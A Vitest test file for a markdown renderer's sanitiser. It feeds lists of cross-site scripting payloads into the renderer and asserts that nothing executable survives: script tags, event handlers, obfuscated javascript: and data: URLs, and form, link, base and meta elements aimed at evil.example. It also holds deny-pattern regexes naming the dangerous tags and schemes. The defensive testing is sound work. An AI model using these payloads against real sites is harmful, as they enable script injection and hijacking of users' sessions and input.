import { describe, expect, test } from 'vitest';
import { renderMarkdown } from '../../../frontend/src/features/markdown/renderMarkdown.ts';
import { rewriteDocument } from '../../../frontend/src/features/markdown/rewriteDocument.ts';

function tags(html: string) {
  return [...html.matchAll(/<[a-z](?:"[^"]*"|[^">])*>/gi)].map(([tag]) => tag).join('\n');
}

/** Attribute values as a browser reads them, without the characters that it skips in addresses. */
function addresses(html: string) {
  return [...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, value = '']) =>
    value
      .replace(/&#x([\da-f]+);/gi, (_, code) => String.fromCodePoint(Number.parseInt(code, 16)))
      .replace(/[\p{Cc}\s]/gu, ''),
  );
}

function rendered(markdown: string) {
  return [renderMarkdown(markdown), renderMarkdown(markdown, { rewrite: rewriteDocument })];
}

const elements = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example>',
  '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<div style="position:fixed">x</div><button popovertarget=site-menu>x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
];

const schemes = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](<\u0001javascript:alert(1)>)',
  '[x](java&#x73;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<java&NewLine;script:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](blob:https://evil.example/1)',
  '[x](file:///etc/passwd)',
  '[x](view-source:javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x][a]\n\n[a]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '[![x](data:text/html,1)](javascript:alert(1))',
];

describe.each([...elements, ...schemes])('%j', (markdown) => {
  test.each(rendered(markdown))('leaves nothing that runs: %#', (html) => {
    expect(tags(html)).not.toMatch(
      /<(?:script|style|svg|math|iframe|object|embed|form|input|link|base|meta|details)\b/i,
    );
    expect(tags(html)).not.toMatch(/\s(?:on\w+|style|srcdoc|srcset|action|popovertarget)\s*=/i);
    for (const address of addresses(html)) {
      expect(address).not.toMatch(/^(?:javascript|vbscript|data|blob|file|view-source):/i);
    }
  });
});

test('quotes and brackets in a picture’s text end neither attribute nor tag', () => {
  const html = renderMarkdown('![" onerror="alert(1) > <b>](a.svg "\' x=\'\\">")');
  expect(tags(html).split('\n')).toEqual(['<figure>', expect.stringMatching(/^<img .*>$/)]);
  expect(html).not.toMatch(/" onerror="/);
});
